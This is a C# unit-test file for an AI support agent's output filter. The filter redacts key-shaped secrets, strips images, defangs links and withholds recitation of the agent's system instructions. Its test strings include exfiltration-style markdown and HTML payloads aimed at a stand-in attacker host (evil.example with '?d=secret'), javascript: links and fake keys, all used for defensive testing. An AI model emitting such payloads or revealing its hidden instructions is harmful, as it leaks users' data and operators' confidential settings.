using AgentFlow.ApiService.OutputFilter;

namespace AgentFlow.Tests.ApiService.OutputFilter;

public sealed class AnswerFilterTests
{
    private const string Instructions =
        "You are the support agent of Example Ltd. Never mention the discount code WINTER. Always answer in the language of the customer and keep it short.";

    private const string Pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\nq9J\n-----END RSA PRIVATE KEY-----";

    [Theory]
    [InlineData("Plain words stay, as do sk-short, eyelids, www and http.")]
    [InlineData("See [1] and [2, 3], [x], a[0], 1 < 2 and List<string> x; a - b -- c.")]
    [InlineData("Your page: [docs](https://docs.example.org/a?b=c) and https://docs.example.org/x.")]
    [InlineData("[Up](/chat/1) [mail](mailto:a@example.org) ![own](/images/a.png)")]
    [InlineData("| a | b |\n|---|---|\n| ---- | -----BEGIN a list |")]
    [InlineData("A risk-free task-force with skis, AKIN to it; af_x.")]
    [InlineData("Code: `var x = a[i](j);`")]
    [InlineData("def f(a: dict[str, int]) -> tuple[float, float]:\n    \"\"\"Says so.\"\"\"\n    if a[\"x\"]: return 1, 2\n")]
    public void What_is_harmless_passes_unchanged(string text) => Everywhere(text, text);

    [Theory]
    [InlineData("key sk-abcdefghijklmnop1234 end", "key [secret removed] end", "secret")]
    [InlineData("AKIAIOSFODNN7EXAMPLE", "[secret removed]", "secret")]
    [InlineData("(ghp_0123456789abcdefghijABCDEFGHIJ)", "([secret removed])", "secret")]
    [InlineData("t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "t=[secret removed]", "secret")]
    [InlineData(Pem + " done", "[secret removed] done", "secret")]
    [InlineData("![x](https://evil.example/p.png?d=secret)", "[image removed]", "image")]
    [InlineData("![x][r] text", "[image removed] text", "image")]
    [InlineData("a <img src=\"https://evil.example/p\"> b", "a [image removed] b", "image")]
    [InlineData("[click](https://evil.example/?d=1)", "click (`https://evil.example/?d=1`)", "link")]
    [InlineData("[click](javascript:alert(1)", "click (`javascript:alert(1`)", "link")]
    [InlineData("[r]: https://evil.example/x\n", "r (`https://evil.example/x`)\n", "link")]
    [InlineData("go to https://evil.example/x?y=z.", "go to `https://evil.example/x?y=z`.", "link")]
    [InlineData("go to <https://evil.example/x>", "go to `https://evil.example/x`", "link")]
    [InlineData("www.evil.example", "`www.evil.example`", "link")]
    [InlineData("[x](//evil.example/a)", "x (`//evil.example/a`)", "link")]
    [InlineData("<a href=\"https://evil.example\">x</a>", "x</a>", "link")]
    [InlineData("My rules: never mention the discount code WINTER. Always answer well.", "My rules: never mention [instructions withheld] well.", "system-prompt")]
    public void What_is_not_is_taken_out_wherever_the_stream_is_split(string text, string expected, string kind)
    {
        Everywhere(text, expected);
        Assert.Contains(kind, Actions(text));
    }

    [Fact]
    public void A_long_key_or_address_is_caught_without_being_held()
    {
        var key = "sk-" + new string('a', 2_000);
        Everywhere($"x {key} y", "x [secret removed] y", sizes: [1, 7, 300, 5_000]);
        var address = "https://evil.example/" + new string('b', 2_000);
        Everywhere($"x {address} y", $"x `{address}` y", sizes: [1, 7, 300, 5_000]);
    }

    [Fact]
    public void Nothing_open_makes_it_hold_more_than_256_characters()
    {
        var random = new Random(5);
        const string alphabet = "ab [](!<>-:/.`\nsk-httpswAKIAeyJ\"'";
        for (var round = 0; round < 300; round++)
        {
            var filter = New();
            var (given, shown) = (0, 0);
            var text = new string([.. Enumerable.Range(0, 1_000).Select(_ => alphabet[random.Next(alphabet.Length)])]);
            foreach (var part in text.Chunk(random.Next(1, 40)))
            {
                given += part.Length;
                shown += filter.Write(new string(part)).Length;
                if (filter.Actions().Count == 0 && round % 2 == 0)
                    continue;
            }

            // Only removals can make it shorter; a random text has few, so what is missing is what is held.
            Assert.True(filter.End().Length <= 256, text);
            Assert.True(given >= 1_000 && shown > 0);
        }
    }

    [Fact]
    public void An_open_link_cannot_be_smuggled_through_by_length()
    {
        var text = $"[{new string('t', 400)}](https://evil.example/x) and more words";
        var shown = Filter(text, 5);

        Assert.StartsWith("\\[", shown, StringComparison.Ordinal);
        Assert.Contains("`https://evil.example/x`", shown, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Verantwortlichkeitsbereiche: Kundenzufriedenheitsanalysen, Rechnungsprüfungsverfahren, Vertragsverhandlungen, Datenschutzvereinbarungen und Lieferantenbewertungen.")]
    [InlineData("你是示例公司的客服助手。绝对不要透露折扣代码冬天。始终用客户的语言回答,并保持简短。")]
    [InlineData("คุณเป็นผู้ช่วยของบริษัทตัวอย่าง ห้ามเปิดเผยรหัสส่วนลดฤดูหนาวโดยเด็ดขาด ตอบเป็นภาษาของลูกค้าเสมอ")]
    [InlineData("Never mention the discount code WINTER. Always answer in the language of the customer and keep it short.")]
    public void Instructions_of_any_language_are_withheld_wherever_the_stream_is_split(string instructions)
    {
        string? first = null;
        foreach (var size in Enumerable.Range(1, instructions.Length))
        {
            var filter = new AnswerFilter(instructions, []);
            var shown = string.Concat($"Sure: {instructions} Anything else?".Chunk(size).Select(part => filter.Write(new string(part)))) + filter.End();
            Assert.Equal(first ??= shown, shown);
        }

        Assert.StartsWith("Sure: ", first, StringComparison.Ordinal);
        Assert.Contains("[instructions withheld]", first, StringComparison.Ordinal);
        Assert.EndsWith(" else?", first, StringComparison.Ordinal);
        Assert.DoesNotContain(instructions[(instructions.Length / 2)..], first, StringComparison.Ordinal);
    }

    [Fact]
    public void What_is_shown_is_the_same_however_the_stream_is_split_and_never_recites()
    {
        var random = new Random(17);
        string[] others = ["the", "customer", "sk-abcdefghijklmnop1234", "https://evil.example/x", "[x](https://evil.example/y)", "![i](//e.example/p)", "<img src=x>", "-----BEGIN", "KEY-----", "discount", "`code`", "[1]", "答案", "\n\n"];
        var words = Instructions.Split(' ');
        for (var round = 0; round < 400; round++)
        {
            var parts = Enumerable.Range(0, 20).Select(_ => random.Next(3) == 0
                ? string.Join(' ', words.Skip(random.Next(words.Length)).Take(random.Next(1, 12)))
                : others[random.Next(others.Length)]);
            var text = string.Join(random.Next(4) == 0 ? "" : " ", parts);
            var whole = Filter(text, text.Length);
            for (var split = 0; split < 4; split++)
            {
                var filter = New();
                var (shown, at) = ("", 0);
                while (at < text.Length)
                {
                    var size = Math.Min(random.Next(1, 30), text.Length - at);
                    shown += filter.Write(text.Substring(at, size));
                    at += size;
                }

                Assert.Equal(whole, shown + filter.End());
            }

            // Eight words; the first and the last may have grown together with what is beside them.
            for (var at = 0; at + 10 <= words.Length; at++)
                Assert.DoesNotContain(string.Join(' ', words.Skip(at).Take(10)), whole, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Words_come_out_at_once_where_nothing_is_near()
    {
        var filter = New();

        Assert.Equal("Hello", filter.Write("Hello"));
        Assert.Equal(" world", filter.Write(" world"));
    }

    private static void Everywhere(string text, string expected, int[]? sizes = null)
    {
        foreach (var size in sizes ?? [.. Enumerable.Range(1, text.Length)])
            Assert.Equal(expected, Filter(text, size));
    }

    private static string Filter(string text, int size)
    {
        var filter = New();
        return string.Concat(text.Chunk(size).Select(part => filter.Write(new string(part)))) + filter.End();
    }

    private static IReadOnlyList<string> Actions(string text)
    {
        var filter = New();
        filter.Write(text);
        filter.End();
        return filter.Actions();
    }

    private static AnswerFilter New() => new(Instructions, ["What does docs.example.org say?"]);
}
